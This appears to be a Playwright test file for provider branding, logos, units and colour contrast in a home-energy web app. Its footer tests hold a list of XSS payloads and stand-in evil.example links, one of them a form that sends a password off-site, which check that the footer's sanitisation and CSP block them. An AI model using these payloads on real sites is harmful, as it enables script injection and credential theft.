import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from '@playwright/test';
import type { ProviderConfig } from '#contract/entities/provider.ts';
import { LONG, expect, longIf, test } from '../support/fixtures.ts';
import { afterPaint, contrastsOf, lowContrastTexts } from '../support/layout-checks.ts';
import {
  asBearer,
  card,
  cards,
  openSignedIn,
  heading,
  newSession,
  storeSession,
} from '../support/signed-in.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');

/** The style sheets that the program itself makes of colours. */
const brandSheets = (colours: readonly string[]): string[] => {
  const script = `
    import { brandCss } from '../domain/src/brand/tokens.ts';
    process.stdout.write(JSON.stringify(process.argv.slice(1).map(brandCss)));`;
  const args = ['--input-type=module', '--eval', script, ...colours];
  return JSON.parse(execFileSync(process.execPath, args, { cwd: ROOT, encoding: 'utf8' })) as string[];
};

/** A small logo stands in the document, so that no request is needed for it. */
const inlineLogo = (pid: string, name: string): string =>
  `data:image/svg+xml;base64,${readFileSync(path.join(ROOT, 'providers', pid, name)).toString('base64')}`;

const token = (page: Page, name: string) =>
  page.evaluate((one) => getComputedStyle(document.documentElement).getPropertyValue(`--color-${one}`), name);

const BRANDS = [
  { pid: 'sunvale', name: 'Sunvale Energy', color: '#0f6b5c' },
  { pid: 'harbour', name: 'Harbour Power', color: '#b8e0ef' },
  { pid: 'maple', name: 'Maple Grid', color: '#000000' },
] as const;

test.describe('the provider of a visit', () => {
  const places = [
    ['before', (pid: string) => `/?pid=${pid}`],
    ['after', (pid: string) => `/#/logon?pid=${pid}`],
  ] as const;
  for (const [where, addressOf] of places) {
    test(
      `[BRAND-2] [ROUTE-6] is named by pid ${where} the '#'`,
      longIf(where === 'after'),
      async ({ page }) => {
        const [...sheets] = brandSheets(BRANDS.map(({ color }) => color));
        for (const [index, { pid, name }] of BRANDS.entries()) {
          await page.goto('about:blank');
          await page.goto(addressOf(pid));
          await expect(page).toHaveTitle(`Sign in · ${name}`);
          await expect(page.getByRole('main').getByText(name)).toBeVisible();
          const logo = page.getByRole('main').locator('img');
          await expect(logo).toHaveAttribute('src', inlineLogo(pid, 'logo-light.svg'));
          expect(sheets[index]).toContain(`--color-brand-solid:${await token(page, 'brand-solid')};`);
          expect(await page.evaluate(() => localStorage.getItem('pid'))).toBe(pid);
        }
      },
    );
  }

  test('[BRAND-2] is the default where pid names nobody', LONG, async ({ page }) => {
    for (const address of ['/?pid=nobody', '/#/logon?pid=nobody', '/?pid=', '/?pid=../../x']) {
      await page.goto('about:blank');
      await page.goto(address);
      await expect(page).toHaveTitle('Sign in · Sunvale Energy');
    }
  });

  test(
    '[BRAND-2] [SHELL-7] is remembered, and a session of another one is ended, which is said',
    LONG,
    async ({ page }) => {
      const session = await openSignedIn(page, 'demo', { session: await newSession(page, 'demo') });
      await page.goto('/?pid=maple');
      await expect(page).toHaveTitle('Sign in · Maple Grid');
      await expect(page.getByText('You were signed in at another provider in this browser.')).toBeVisible();
      const call = () => page.request.get(`/api/account/${session.user.id}`, asBearer(session));
      await expect.poll(async () => (await call()).status()).toBe(401);
      expect(await page.evaluate(() => localStorage.getItem('token'))).toBeNull();
      await page.goto('/#/logon');
      await expect(page).toHaveTitle('Sign in · Maple Grid');
    },
  );
});

test('[BRAND-4] the brand is there before anything is painted, without waiting for another file', async ({
  page,
}) => {
  await page.addInitScript(() => {
    document.addEventListener('DOMContentLoaded', () => {
      const { documentElement: root } = document;
      const seen = [
        getComputedStyle(root).getPropertyValue('--color-brand-solid'),
        getComputedStyle(document.body).backgroundColor,
        String(document.styleSheets.length),
        String(document.querySelectorAll('link[rel=stylesheet]:not([disabled])').length),
      ];
      root.dataset['seen'] = JSON.stringify(seen);
    });
  });
  await page.goto('/?pid=harbour');
  await expect(heading(page)).toBeVisible();
  const [solid, ground, sheets, links] = JSON.parse(
    (await page.locator('html').getAttribute('data-seen')) ?? '[]',
  ) as string[];
  expect(brandSheets(['#b8e0ef'])[0]).toContain(`--color-brand-solid:${solid};`);
  expect(ground).toBe('rgb(246, 245, 242)');
  expect([sheets, links]).toEqual(['1', '0']);
});

test('[BRAND-3] the full logo on wide screens, the small one on narrow ones', LONG, async ({ page }) => {
  await page.goto('/?pid=harbour');
  const logo = page.getByRole('main').locator('img');
  const shown = () => logo.evaluate((image) => (image as HTMLImageElement).currentSrc);
  await expect.poll(shown).toBe(inlineLogo('harbour', 'logo-light.svg'));
  await page.setViewportSize({ width: 375, height: 812 });
  await expect.poll(shown).toBe(inlineLogo('harbour', 'logo-light-small.svg'));
  expect(await logo.evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);

  // Signed in it is the first thing of the window's top line, over the left menu or in the top bar, and leads home.
  await openSignedIn(page, 'au', { at: '/my-account/profile' });
  for (const { width, file } of [
    { width: 1440, file: 'logo-light.svg' },
    { width: 768, file: 'logo-light.svg' },
    { width: 375, file: 'logo-light-small.svg' },
  ]) {
    await page.setViewportSize({ width, height: 812 });
    const home = page.locator('a[href="#/user-home"]:has(img):visible');
    await expect(home).toHaveCount(1);
    const image = home.locator('img');
    await expect
      .poll(() => image.evaluate((one) => (one as HTMLImageElement).currentSrc))
      .toBe(inlineLogo('harbour', file));
    const box = await image.boundingBox();
    const top = await page.getByRole('banner').boundingBox();
    if (!box || !top) throw new Error('no logo or no top bar');
    expect(box.x).toBeLessThan(40);
    expect(box.y + box.height).toBeLessThanOrEqual(top.y + top.height);
  }
});

test.describe('the footer', () => {
  // The policy speaks up already while the hostile text is taken apart, before anything of it is shown.
  test.use({ expectedError: /violates the following Content Security Policy directive/ });

  test('[BRAND-3] shows what is configured, signed out and signed in', async ({ page }) => {
    await page.goto('/?pid=harbour');
    const footer = page.getByRole('contentinfo');
    await expect(footer).toContainText('Life support at home?');
    const privacy = footer.getByRole('link', { name: 'Privacy' });
    await expect(privacy).toHaveAttribute('href', 'https://harbour.example/privacy');
    await expect(privacy).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(footer.getByRole('link', { name: '02 5550 1234' })).toHaveAttribute(
      'href',
      'tel:+61255501234',
    );
    await openSignedIn(page, 'au');
    await expect(footer).toContainText('Life support at home?');
  });

  test('[BRAND-3] is not there where none is configured', LONG, async ({ page }) => {
    await openSignedIn(page, 'ca');
    await expect(cards(page)).toHaveCount(3);
    await expect(page.getByRole('contentinfo')).toHaveCount(0);
  });

  const HOSTILE = [
    '<p>kept <b>bold</b> <a href="https://ok.example/">ok</a></p>',
    '<script>window.__xss = 1</script>',
    '<img src=x onerror="window.__xss = 2">',
    '<svg onload="window.__xss = 3"><script>window.__xss = 4</script></svg>',
    '<iframe srcdoc="<script>parent.__xss = 5</script>"></iframe>',
    '<a href="javascript:window.__xss = 6">js</a>',
    '<a href="JaVa\tScRiPt:window.__xss = 7">tab</a>',
    '<a href="&#106;avascript:window.__xss = 8">entity</a>',
    '<a href="data:text/html,<script>parent.__xss = 9</script>">data</a>',
    '<a href="//evil.example/">bare</a>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=10&gt;">',
    '<form action="https://evil.example/"><input name="password"><button>go</button></form>',
    '<style>body { background: url(https://evil.example/leak) }</style>',
    '<p style="position: fixed; inset: 0" id="root" class="x" onclick="window.__xss = 11">styled</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    '<video src="https://evil.example/x" autoplay></video><audio src="https://evil.example/y"></audio>',
    '<template><img src=x onerror="window.__xss = 12"></template><noscript><p title="</noscript><img src=x onerror=window.__xss=13>">',
    '<details open ontoggle="window.__xss = 14"><summary>x</summary></details>',
    '<input autofocus onfocus="window.__xss = 15"><body onload="window.__xss = 16">',
  ].join('\n');

  const replaceFooter = (page: Page, text: string) =>
    page.route(
      (url) => url.pathname === '/',
      async (route) => {
        const response = await route.fetch();
        const html = await response.text();
        const [all = '', before = '', data = ''] =
          /(<script type="application\/json" id="page">)(.*?)<\/script>/s.exec(html) ?? [];
        const given = JSON.parse(data) as { provider: ProviderConfig };
        const provider = { ...given.provider, homeAppFooter: { text, translations: [] } };
        const hostile = JSON.stringify({ ...given, provider }).replaceAll('<', String.raw`\u003c`);
        await route.fulfill({ response, body: html.replace(all, () => `${before}${hostile}</script>`) });
      },
    );

  for (const who of ['a visitor', 'a homeowner']) {
    test(
      `[BRAND-3] [T-21] [T-22] cannot do anything to ${who}, whatever it holds`,
      longIf(who === 'a visitor'),
      async ({ page }) => {
        const foreign: string[] = [];
        page.on('request', (request) => {
          if (!request.url().startsWith('http://127.0.0.1')) foreign.push(request.url());
        });
        await replaceFooter(page, HOSTILE);
        if (who === 'a visitor') await page.goto('/');
        else await openSignedIn(page, 'demo');
        const footer = page.getByRole('contentinfo');
        await expect(footer).toContainText('kept bold ok');
        const { names, attributes, links } = await footer.evaluate((element) => {
          const inside = [...element.querySelectorAll(':scope > div *')];
          return {
            names: [...new Set(inside.map(({ localName }) => localName))],
            attributes: [...new Set(inside.flatMap((one) => one.getAttributeNames()))],
            links: inside.map((one) => one.getAttribute('href')).filter((href) => href !== null),
          };
        });
        const allowed = [
          'a',
          'b',
          'br',
          'em',
          'h2',
          'h3',
          'h4',
          'hr',
          'i',
          'li',
          'ol',
          'p',
          'span',
          'strong',
          'u',
          'ul',
        ];
        expect(names).toContain('b');
        expect(names.filter((name) => !allowed.includes(name))).toEqual([]);
        expect(attributes.filter((name) => !['href', 'rel', 'target'].includes(name))).toEqual([]);
        expect(links).toEqual(['https://ok.example/']);
        for (const link of await footer.getByText(/^(js|tab|entity|data|bare)$/).all()) await link.click();
        await afterPaint(page);
        expect(await page.evaluate(() => '__xss' in globalThis)).toBe(false);
        expect(foreign).toEqual([]);
      },
    );
  }
});

test('[BRAND-5] [UX-40] Australia reads degrees Celsius', LONG, async ({ page }) => {
  await openSignedIn(page, 'au');
  const room = card(page, 'Lounge Split System');
  await expect(room).toContainText(/Inside now\d\d°C/);
  await expect(room).toContainText(/(Set|Heat|Cool) to.*24°C/);
  await expect(page.getByText(/°F/)).toHaveCount(0);
});

test('[BRAND-5] [DEV-9] [UX-40] Canada reads degrees Celsius and kilometres', LONG, async ({ page }) => {
  await openSignedIn(page, 'ca');
  await expect(card(page, 'Condo Thermostat')).toContainText(/Inside now\d\d°C/);
  await expect(card(page, 'Hatchback')).toContainText(/Range\d+km/);
  await expect(page.getByText(/°F/)).toHaveCount(0);
});

test.describe('any colour', () => {
  test.use({ reducedMotion: 'reduce' });

  const AWKWARD = [
    '#ffffff',
    '#000000',
    '#ffff00',
    '#ff0000',
    '#00ff00',
    '#0000ff',
    '#ff00ff',
    '#00ffff',
    '#808080',
    '#fffbe6',
    '#0f6b5c',
    '#7a7a00',
  ];
  const sheets = brandSheets(AWKWARD);

  const applyTheme = async (page: Page, css: string, theme: 'light' | 'dark') => {
    await page.evaluate(
      ([text, choice]) => {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(text ?? '');
        document.adoptedStyleSheets = [sheet];
        document.documentElement.dataset['theme'] = choice;
      },
      [css, theme],
    );
    await afterPaint(page);
    // One that is removed meanwhile, with its element, does not finish.
    await page.evaluate(() => Promise.allSettled(document.getAnimations().map(({ finished }) => finished)));
  };

  const faultsOf = async (page: Page, what: string): Promise<string[]> => {
    const { seen, weak } = await lowContrastTexts(page);
    expect(seen).toBeGreaterThan(8);
    return weak.map((text) => `${what} ${text}`);
  };

  const everyBrand = async (page: Page, look: (what: string) => Promise<string[]>): Promise<string[]> => {
    const faults: string[] = [];
    for (const [index, css] of sheets.entries()) {
      for (const theme of ['light', 'dark'] as const) {
        await applyTheme(page, css, theme);
        faults.push(...(await look(`${AWKWARD[index]} ${theme}`)));
      }
    }
    return faults;
  };

  test('[BRAND-4] [UX-39] the measure itself finds text that cannot be read', LONG, async ({ page }) => {
    await page.goto('/');
    await expect(heading(page)).toBeVisible();
    const [css = ''] = sheets;
    await applyTheme(page, css.replace(/--color-text:[^;]+/, '--color-text:#fefefe'), 'light');
    expect(await faultsOf(page, '')).toContainEqual(expect.stringMatching(/^ Welcome home: 1\.0/));
  });

  test('[BRAND-4] [UX-39] can be read on the sign-in screen, in light and dark', LONG, async ({ page }) => {
    await page.goto('/');
    await expect(page.getByRole('contentinfo')).toContainText('Sunvale');
    const button = page.getByRole('button', { name: 'Sign in' });
    const box = page.getByLabel('Email').locator('..');
    await button.click();
    await expect(page.getByText('Enter your email address.')).toBeVisible();
    const faults = await everyBrand(page, async (what) => {
      const [primary, field] = [await contrastsOf(button), await contrastsOf(box)];
      const parts = { button: primary.ground, field: field.border, ring: primary.ring };
      const weak = Object.entries(parts).filter(([, ratio]) => ratio < 3);
      return [...(await faultsOf(page, what)), ...weak.map(([part, ratio]) => `${what} ${part}: ${ratio}`)];
    });
    expect(faults).toEqual([]);
  });

  test('[BRAND-4] [UX-39] can be read on the dashboard, in light and dark', LONG, async ({ page }) => {
    await openSignedIn(page, 'demo');
    await expect(cards(page)).toHaveCount(6);
    const gear = page.getByRole('link', { name: 'Settings of Living Room' });
    const bar = page.getByRole('img', { name: /^Charge level/ }).first();
    const faults = await everyBrand(page, async (what) => {
      const parts = { ring: (await contrastsOf(gear)).ring, bar: (await contrastsOf(bar)).border };
      const weak = Object.entries(parts).filter(([, ratio]) => ratio < 3);
      return [...(await faultsOf(page, what)), ...weak.map(([part, ratio]) => `${what} ${part}: ${ratio}`)];
    });
    expect(faults).toEqual([]);
  });

  for (const [who, pid] of [
    ['au', 'harbour'],
    ['ca', 'maple'],
  ] as const) {
    test(
      `[BRAND-4] [UX-39] ${pid} can be read as it is served, in light and dark`,
      LONG,
      async ({ page }) => {
        for (const colorScheme of ['light', 'dark'] as const) {
          // Loaded anew: a colour on its way to another is not what is read.
          await page.goto('about:blank');
          await page.emulateMedia({ colorScheme });
          await storeSession(page, who);
          await page.goto(`/?pid=${pid}#/user-home`);
          await expect(cards(page)).toHaveCount(3);
          expect(await faultsOf(page, colorScheme)).toEqual([]);
        }
      },
    );
  }
});
